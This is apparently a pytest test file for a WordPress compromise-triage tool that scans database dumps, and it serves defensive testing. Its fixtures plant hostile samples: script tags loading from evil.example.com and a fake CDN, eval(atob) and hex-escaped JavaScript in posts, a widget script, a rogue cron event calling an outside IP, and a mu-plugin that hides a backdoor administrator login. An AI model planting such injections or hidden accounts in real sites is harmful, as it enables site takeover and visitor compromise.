"""WordPress database checks over real dumps: a real MariaDB holds the rows, the real
mariadb-dump writes them as rescue does (--default-character-set=binary, multi-row
INSERTs, gzip), and each rule finds the planted row and spares its genuine look-alike."""

from __future__ import annotations

import gzip
import itertools
import subprocess
from pathlib import Path
from typing import Any

import pytest

from vpsrescue.dump import inserts
from vpsrescue.mariadb import ThrowawayMariaDB
from vpsrescue.triage import database
from vpsrescue.triage.model import Context, Finding, Site

from ..oldroot import OldRoot

# WordPress's own table definitions (wp-admin/includes/schema.php), as MySQL shows them.
SCHEMA = """
CREATE TABLE {p}users (
  ID bigint(20) unsigned NOT NULL auto_increment,
  user_login varchar(60) NOT NULL default '',
  user_pass varchar(255) NOT NULL default '',
  user_nicename varchar(50) NOT NULL default '',
  user_email varchar(100) NOT NULL default '',
  user_url varchar(100) NOT NULL default '',
  user_registered datetime NOT NULL default '0000-00-00 00:00:00',
  user_activation_key varchar(255) NOT NULL default '',
  user_status int(11) NOT NULL default '0',
  display_name varchar(250) NOT NULL default '',
  PRIMARY KEY (ID)
) DEFAULT CHARSET=latin1;
CREATE TABLE {p}usermeta (
  umeta_id bigint(20) unsigned NOT NULL auto_increment,
  user_id bigint(20) unsigned NOT NULL default '0',
  meta_key varchar(255) default NULL,
  meta_value longtext,
  PRIMARY KEY (umeta_id)
) DEFAULT CHARSET=latin1;
CREATE TABLE {p}posts (
  ID bigint(20) unsigned NOT NULL auto_increment,
  post_author bigint(20) unsigned NOT NULL default '0',
  post_date datetime NOT NULL default '0000-00-00 00:00:00',
  post_date_gmt datetime NOT NULL default '0000-00-00 00:00:00',
  post_content longtext NOT NULL,
  post_title text NOT NULL,
  post_excerpt text NOT NULL,
  post_status varchar(20) NOT NULL default 'publish',
  comment_status varchar(20) NOT NULL default 'open',
  ping_status varchar(20) NOT NULL default 'open',
  post_password varchar(255) NOT NULL default '',
  post_name varchar(200) NOT NULL default '',
  to_ping text NOT NULL,
  pinged text NOT NULL,
  post_modified datetime NOT NULL default '0000-00-00 00:00:00',
  post_modified_gmt datetime NOT NULL default '0000-00-00 00:00:00',
  post_content_filtered longtext NOT NULL,
  post_parent bigint(20) unsigned NOT NULL default '0',
  guid varchar(255) NOT NULL default '',
  menu_order int(11) NOT NULL default '0',
  post_type varchar(20) NOT NULL default 'post',
  post_mime_type varchar(100) NOT NULL default '',
  comment_count bigint(20) NOT NULL default '0',
  PRIMARY KEY (ID)
) DEFAULT CHARSET=latin1;
CREATE TABLE {p}options (
  option_id bigint(20) unsigned NOT NULL auto_increment,
  option_name varchar(191) NOT NULL default '',
  option_value longtext NOT NULL,
  autoload varchar(20) NOT NULL default 'yes',
  PRIMARY KEY (option_id),
  UNIQUE KEY option_name (option_name)
) DEFAULT CHARSET=latin1;
"""

_names = (f"triage_wp_{i}" for i in itertools.count())

CAPS_ADMIN = b'a:1:{s:13:"administrator";b:1;}'
CAPS_EDITOR = b'a:1:{s:6:"editor";b:1;}'


def cron_option(events: dict[int, tuple[str, list[str]]]) -> bytes:
    """The cron option as WordPress's own serialize() writes it."""
    out = [f"a:{len(events) + 1}:{{".encode()]
    for ts, (hook, args) in events.items():
        a = "".join(f'i:{i};s:{len(x)}:"{x}";' for i, x in enumerate(args))
        out.append(
            f'i:{ts};a:1:{{s:{len(hook)}:"{hook}";a:1:{{s:32:"40cd750bba9870f18aada2478b24840a";'
            f'a:3:{{s:8:"schedule";s:6:"hourly";s:4:"args";a:{len(args)}:{{{a}}}'
            f's:8:"interval";i:3600;}}}}}}'.encode())
    out.append(b's:7:"version";i:2;}')
    return b"".join(out)


def make_dump(db: ThrowawayMariaDB, out: Path, prefix: str, users: list[tuple[Any, ...]],
              caps: dict[int, bytes], posts: list[tuple[Any, ...]],
              options: dict[str, bytes], name: str | None = None,
              dump_args: tuple[str, ...] = ()) -> Path:
    """A WordPress database in the real server, dumped as rescue dumps it."""
    name = name or next(_names)

    def b(row: tuple[Any, ...]) -> tuple[Any, ...]:
        # WordPress with DB_CHARSET latin1 stores its UTF-8 bytes as they are
        return tuple(v.encode() if isinstance(v, str) else v for v in row)

    conn = db.connect(charset="latin1")
    try:
        with conn.cursor() as cur:
            cur.execute(f"CREATE DATABASE {name}")
            cur.execute(f"USE {name}")
            for stmt in SCHEMA.format(p=prefix).split(";"):
                if stmt.strip():
                    cur.execute(stmt)
            for u in users:
                cur.execute(f"INSERT INTO {prefix}users (ID, user_login, user_email, "
                            "user_registered, display_name) VALUES (%s,%s,%s,%s,%s)", b(u))
            for uid, c in caps.items():
                cur.executemany(f"INSERT INTO {prefix}usermeta (user_id, meta_key, meta_value)"
                                " VALUES (%s,%s,%s)",
                                [(uid, "nickname", "x"), (uid, f"{prefix}capabilities", c)])
            for p in posts:  # (ID, content, title, status, type[, author])
                cur.execute(f"INSERT INTO {prefix}posts (ID, post_content, post_title, "
                            "post_status, post_type, post_author, post_excerpt, to_ping, "
                            "pinged, post_content_filtered) VALUES (%s,%s,%s,%s,%s,%s,'','',"
                            "'','')", b(p if len(p) == 6 else (*p, 0)))
            for k, v in options.items():
                cur.execute(f"INSERT INTO {prefix}options (option_name, option_value) "
                            "VALUES (%s,%s)", (k, v))
        conn.commit()
        path = out / f"{name}.sql.gz"
        res = subprocess.run(["mariadb-dump", *db.client_args(), "--default-character-set=binary",
                              "--net-buffer-length=2048", *dump_args, name], check=True,
                             capture_output=True)
        path.write_bytes(gzip.compress(res.stdout))
        with conn.cursor() as cur:
            cur.execute(f"DROP DATABASE {name}")
        return path
    finally:
        conn.close()


BLOG = Site(root="/usr/share/wordpress", content_dir="/var/lib/wordpress/wp-content",
            table_prefix="wpzh_", db_name=None, server_names=["blog.example.org"])

GENUINE_POST = ("<p>后来，我们在面馆里发现了一本旧书。</p>\n<p>“这是谁的？”他问。</p>"
                "<p>It's (a) test), ('quoted') \\ backslash</p>")


@pytest.fixture(scope="module")
def blog_dump(mariadb: ThrowawayMariaDB, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("dumps")
    return make_dump(
        mariadb, out, "wpzh_",
        users=[(1, "laozhang", "zhang@blog.example.org", "2014-05-03 02:11:09", "老张"),
               (2, "xiaomei", "xiaomei@blog.example.org", "2015-02-18 12:40:00", "小美"),
               (3, "wpsupport", "support@wp-helpdesk.example.net", "2024-03-11 03:14:15",
                "wpsupport"),
               (4, "laowang", "wang@example.org", "2024-02-01 10:00:00", "老王")],
        caps={1: CAPS_ADMIN, 2: CAPS_EDITOR, 3: CAPS_ADMIN, 4: CAPS_ADMIN},
        posts=[(4, GENUINE_POST, "后来发生的事", "publish", "post"),
               (12, '<p>本站将于周末进行维护。</p><script src="https://cdn.jsdelivr-cache.'
                    'example.net/jquery.min.js?v=3.1"></script>', "网站维护通知", "publish",
                "post"),
               (13, '<p>视频</p><iframe src="https://www.youtube.com/embed/abc" '
                    'width="560"></iframe>', "视频", "publish", "post"),
               (14, "<p>x</p><script>eval(atob('YWxlcnQoMSk='))</script>", "草稿", "draft",
                "post"),
               (15, '<p>old</p><script src="http://evil.example.com/x.js"></script>',
                "12-revision-v1", "inherit", "revision"),
               (17, '<blockquote class="twitter-tweet"><a href="https://twitter.com/x/status/1">'
                    '</a></blockquote><script async src="https://platform.twitter.com/'
                    'widgets.js" charset="utf-8"></script>', "推特", "publish", "post"),
               (18, '<iframe title="x" src="https://player.example-video.com/v/1"></iframe>',
                "abc123", "publish", "oembed_cache")],
        options={"siteurl": b"http://blog.example.org", "home": b"http://blog.example.org",
                 "active_plugins": b"a:0:{}",
                 "widget_text": b'a:2:{i:2;a:2:{s:5:"title";s:6:"notice";s:4:"text";'
                                b's:41:"<script src=//x.example.com/a.js></script>";}'
                                b's:12:"_multiwidget";i:1;}',
                 "_transient_feed_abc": b"<p>feed</p><script>var a=1;</script>",
                 "cron": cron_option({
                     1717200060: ("recovery_mode_clean_expired_keys", []),
                     1717200120: ("wp_version_check", []),
                     1717200180: ("hello_dolly_refresh", []),
                     1717200240: ("wp_session_gc_ping", ["http://203.0.113.66/p.php"]),
                     1717200300: ("leftover_plugin_event", [])})})


@pytest.fixture(scope="module")
def old_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The site's files: one plugin that registers its cron hook, and a mu-plugin that
    hides a login."""
    old = OldRoot(tmp_path_factory.mktemp("old"))
    old.file("/usr/share/wordpress/wp-content/plugins/hello/hello.php",
             b"<?php\nadd_action( 'hello_dolly_refresh', 'hello_dolly_refresh' );\n")
    old.file("/var/lib/wordpress/wp-content/mu-plugins/wp-session-helper.php",
             b"<?php\nadd_action('pre_user_query', function ($q) {\n    global $wpdb;\n"
             b"    $q->query_where .= \" AND {$wpdb->users}.user_login != 'wpsupport'\";"
             b"\n});\n")
    return old.root


@pytest.fixture(scope="module")
def findings(blog_dump: Path, old_root: Path) -> list[Finding]:
    return list(database.check_wordpress_database(Context(old_root, [BLOG], [blog_dump])))


def by_kind(found: list[Finding], kind: str) -> list[Finding]:
    return [f for f in found if f.kind == kind]


@pytest.mark.service
def test_rows_read_from_the_dump_are_the_stored_bytes(mariadb: ThrowawayMariaDB,
                                                       tmp_path: Path) -> None:
    tricky = ["it's", 'say "hi"', "back\\slash", "line\nbreak\r\n", "nul\0byte", "),(", "(",
              "面条 🍜", "\x1a", "", "'),('x"]
    dump = make_dump(mariadb, tmp_path, "wp_", users=[], caps={}, posts=[],
                     options={f"o{i}": v.encode() for i, v in enumerate(tricky * 40)})
    rows = {(r["option_name"] or b"").decode(): r["option_value"]
            for t, r in inserts.table_rows(dump, lambda t: t == "wp_options")}
    assert len(rows) == len(tricky) * 40
    assert rows == {f"o{i}": v.encode() for i, v in enumerate(tricky * 40)}
    text = gzip.decompress(dump.read_bytes())
    assert text.count(b"INSERT INTO `wp_options`") > 1  # several multi-row statements


@pytest.mark.service
def test_the_planted_administrator_is_high_and_the_genuine_ones_are_not(
        findings: list[Finding]) -> None:
    admins = {f.extra["login"]: f for f in by_kind(findings, "wp_admin")}
    assert set(admins) == {"laozhang", "wpsupport", "laowang"}  # not the editor
    assert admins["wpsupport"].severity == "high"
    assert "mu-plugins/wp-session-helper.php" in admins["wpsupport"].title
    assert admins["laozhang"].severity == "info"
    # a later genuine administrator on the site's own domain: reviewed, not alarmed
    assert admins["laowang"].severity in ("info", "low")


@pytest.mark.service
def test_admin_heuristics_without_the_mu_plugin(blog_dump: Path, tmp_path: Path) -> None:
    found = database.check_wordpress_database(Context(tmp_path, [BLOG], [blog_dump]))
    admins = {f.extra["login"]: f for f in found if f.kind == "wp_admin"}
    assert admins["wpsupport"].severity == "high"  # login, foreign domain, late
    assert len(admins["wpsupport"].extra["reasons"]) == 3
    assert admins["laozhang"].severity == "info"


@pytest.mark.service
def test_scripts_in_posts(findings: list[Finding]) -> None:
    got = {(f.extra["post_id"], f.severity) for f in by_kind(findings, "wp_post_script")}
    assert got == {(12, "high"), (13, "info"), (14, "high"), (15, "info"), (17, "low"),
                   (18, "info")}
    f12 = next(f for f in by_kind(findings, "wp_post_script") if f.extra["post_id"] == 12)
    assert f12.evidence == ('<script src="https://cdn.jsdelivr-cache.example.net/jquery.min.js'
                            '?v=3.1"></script>')
    assert f12.extra["post_title"] == "网站维护通知"


@pytest.mark.service
def test_hex_escaped_javascript_alone_in_a_dump(mariadb: ThrowawayMariaDB,
                                                tmp_path: Path) -> None:
    """No <script> anywhere in the statement: the cheap statement filter must still let
    the row through (backslashes are doubled in the dump's text)."""
    dump = make_dump(mariadb, tmp_path, "wpzh_", users=[], caps={}, options={}, posts=[
        (4, GENUINE_POST, "后来发生的事", "publish", "post"),
        (16, "<p onmouseover=\"var _0x='\\x68\\x74\\x74\\x70';\">hi</p>", "页", "publish",
         "page")])
    found = database.check_wordpress_database(Context(tmp_path, [BLOG], [dump]))
    assert [(f.kind, f.extra.get("post_id"), f.severity) for f in found] == [
        ("wp_post_script", 16, "high")]


@pytest.mark.service
def test_rogue_cron_events(findings: list[Finding]) -> None:
    cron = {f.extra["hook"]: f for f in by_kind(findings, "wp_cron")}
    # core hooks and the hook the installed plugin registers are not reported
    assert set(cron) == {"wp_session_gc_ping", "leftover_plugin_event"}
    assert cron["wp_session_gc_ping"].severity == "high"
    assert "http://203.0.113.66/p.php" in cron["wp_session_gc_ping"].evidence
    assert cron["leftover_plugin_event"].severity == "medium"


@pytest.mark.service
def test_options_with_scripts_and_foreign_hosts(findings: list[Finding],
                                                 mariadb: ThrowawayMariaDB,
                                                 tmp_path: Path) -> None:
    opts = {(f.extra["option"], f.severity) for f in by_kind(findings, "wp_option")}
    assert opts == {("widget_text", "high"), ("_transient_feed_abc", "info")}
    moved = make_dump(mariadb, tmp_path, "wpzh_", users=[], caps={}, posts=[],
                      options={"siteurl": b"http://blog.example.org",
                               "home": b"https://seo-pills.example.com",
                               "active_plugins": b'a:1:{i:0;s:19:"akismet/akismet.php";}'})
    found = list(database.check_wordpress_database(Context(tmp_path, [BLOG], [moved])))
    got = {(f.extra["option"], f.severity) for f in found if f.kind == "wp_option"}
    assert got == {("home", "high"), ("active_plugins", "low")}


@pytest.mark.service
def test_the_dump_named_after_the_database_is_the_one_read(mariadb: ThrowawayMariaDB,
                                                            tmp_path: Path) -> None:
    mine = make_dump(mariadb, tmp_path, "wp_", name="shopdb",
                     users=[(1, "owner", "owner@shop.example.org", "2019-01-01 00:00:00", "o")],
                     caps={1: CAPS_ADMIN}, posts=[], options={})
    other = make_dump(mariadb, tmp_path, "wp_", name="otherdb",
                      users=[(1, "someone", "x@other.example", "2019-01-01 00:00:00", "s")],
                      caps={1: CAPS_ADMIN}, posts=[], options={})
    site = Site(root="/var/www/shop", content_dir="/var/www/shop/wp-content",
                db_name="shopdb", server_names=["shop.example.org"])
    found = list(database.check_wordpress_database(Context(tmp_path, [site], [other, mine])))
    assert [f.extra["login"] for f in found if f.kind == "wp_admin"] == ["owner"]
    nodump = Site(root="/var/www/x", content_dir="/var/www/x/wp-content", table_prefix="x_")
    found = list(database.check_wordpress_database(Context(tmp_path, [nodump], [mine])))
    assert [(f.kind, f.severity) for f in found] == [("wp_database", "info")]


@pytest.mark.service
def test_every_powerful_account_is_listed_with_its_evidence(mariadb: ThrowawayMariaDB,
                                                           tmp_path: Path) -> None:
    """Editors, a custom role with install_plugins (from <prefix>user_roles), a
    capability granted outside any role: each is a powerful account with the posts it
    wrote; an author is not; the custom role itself is a finding."""
    roles = (b'a:4:{s:13:"administrator";a:2:{s:4:"name";s:13:"Administrator";'
             b's:12:"capabilities";a:2:{s:15:"install_plugins";b:1;s:12:"edit_plugins";b:1;}}'
             b's:6:"editor";a:2:{s:4:"name";s:6:"Editor";s:12:"capabilities";'
             b'a:1:{s:15:"unfiltered_html";b:1;}}'
             b's:6:"author";a:2:{s:4:"name";s:6:"Author";s:12:"capabilities";'
             b'a:1:{s:12:"upload_files";b:1;}}'
             b's:11:"seo_manager";a:2:{s:4:"name";s:3:"SEO";s:12:"capabilities";'
             b'a:2:{s:15:"install_plugins";b:1;s:10:"edit_posts";b:0;}}}')
    dump = make_dump(
        mariadb, tmp_path, "wp_", name="powerdb",
        users=[(1, "owner", "owner@shop.example.org", "2019-01-01 00:00:00", "o"),
               (2, "ed", "ed@shop.example.org", "2019-02-01 00:00:00", "e"),
               (3, "writer", "w@shop.example.org", "2019-03-01 00:00:00", "w"),
               (4, "seo", "seo@agency.example.com", "2024-03-11 02:00:00", "s"),
               (5, "sub", "sub@shop.example.org", "2020-01-01 00:00:00", "u")],
        caps={1: CAPS_ADMIN, 2: CAPS_EDITOR, 3: b'a:1:{s:6:"author";b:1;}',
              4: b'a:1:{s:11:"seo_manager";b:1;}',
              5: b'a:2:{s:10:"subscriber";b:1;s:13:"promote_users";b:1;}'},
        posts=[(1, "<p>a</p>", "a", "publish", "post", 2),
               (2, "<p>b</p>", "b", "publish", "page", 2),
               (3, "<p>c</p>", "c", "inherit", "revision", 2),
               (4, "<p>d</p>", "d", "publish", "post", 1)],
        options={"wp_user_roles": roles, "siteurl": b"http://shop.example.org"})
    site = Site(root="/var/www/shop", content_dir="/var/www/shop/wp-content",
                db_name="powerdb", server_names=["shop.example.org"])
    found = list(database.check_wordpress_database(Context(tmp_path, [site], [dump])))
    accounts = {f.extra["login"]: f for f in found if f.kind in ("wp_admin", "wp_account")}
    assert set(accounts) == {"owner", "ed", "seo", "sub"}
    assert [f.kind for f in accounts.values()].count("wp_admin") == 1
    owner, ed, seo, sub = (accounts[k].extra for k in ("owner", "ed", "seo", "sub"))
    assert (owner["posts"], ed["posts"], seo["posts"]) == (1, 2, 0)  # no revisions
    assert ed["roles"] == ["editor"] and ed["caps"] == ["unfiltered_html"]
    assert seo["roles"] == ["seo_manager"] and seo["caps"] == ["install_plugins"]
    assert accounts["seo"].severity == "high"  # custom role + outside e-mail
    assert sub["caps"] == ["promote_users"] and accounts["sub"].severity == "high"
    assert accounts["ed"].severity == "info"
    (role,) = [f for f in found if f.kind == "wp_role"]
    assert role.extra["role"] == "seo_manager" and role.extra["caps"] == ["install_plugins"]


@pytest.mark.unit
def test_insert_rows_handles_numbers_nulls_and_hex() -> None:
    text = (b"INSERT INTO `t` VALUES (1,NULL,'a,b',0x414243,-2.5),"
            b"(2,'x''y',_binary 'z',X'4142',3);")
    rows = list(inserts.rows(text, text.index(b"(") + 1))
    assert rows == [[b"1", None, b"a,b", b"ABC", b"-2.5"], [b"2", b"x'y", b"z", b"AB", b"3"]]


@pytest.mark.service
def test_a_truncated_dump_is_reported_and_the_other_dumps_still_read(
        blog_dump: Path, mariadb: ThrowawayMariaDB, tmp_path: Path) -> None:
    cut = tmp_path / "blogcut.sql.gz"
    cut.write_bytes(gzip.compress(gzip.decompress(blog_dump.read_bytes())[:-3000]))
    news = make_dump(mariadb, tmp_path, "nws_", name="newsdb_cut_test",
                     users=[(1, "newsadmin", "admin@news.example.net", "2017-03-01 09:00:00",
                             "Sam")], caps={1: CAPS_ADMIN}, posts=[], options={})
    blog = Site(root="/usr/share/wordpress", content_dir="/var/lib/wordpress/wp-content",
                table_prefix="wpzh_", db_name="blogcut", server_names=["blog.example.org"])
    site = Site(root="/var/www/news", content_dir="/var/www/news/wp-content",
                table_prefix="nws_", db_name="newsdb_cut_test")
    found = list(database.check_wordpress_database(Context(tmp_path, [blog, site],
                                                           [cut, news])))
    broken = [f for f in found if f.kind == "wp_database"]
    assert len(broken) == 1 and broken[0].severity == "medium"
    assert "blogcut.sql.gz" in broken[0].title and "truncated" in broken[0].title
    assert [f.extra["login"] for f in found if f.kind == "wp_admin"
            and f.extra["site"] == "/var/www/news"] == ["newsadmin"]


@pytest.mark.service
def test_a_dump_without_create_table_uses_wordpress_column_order(
        mariadb: ThrowawayMariaDB, tmp_path: Path) -> None:
    dump = make_dump(mariadb, tmp_path, "wp_", dump_args=("--no-create-info",),
                     users=[(7, "owner", "owner@shop.example.org", "2019-01-01 00:00:00", "o")],
                     caps={7: CAPS_ADMIN}, posts=[], options={})
    assert b"CREATE TABLE" not in gzip.decompress(dump.read_bytes())
    site = Site(root="/var/www/shop", content_dir="/var/www/shop/wp-content")
    found = list(database.check_wordpress_database(Context(tmp_path, [site], [dump])))
    assert [(f.kind, f.extra["user_id"], f.extra["email"]) for f in found] == [
        ("wp_admin", 7, "owner@shop.example.org")]
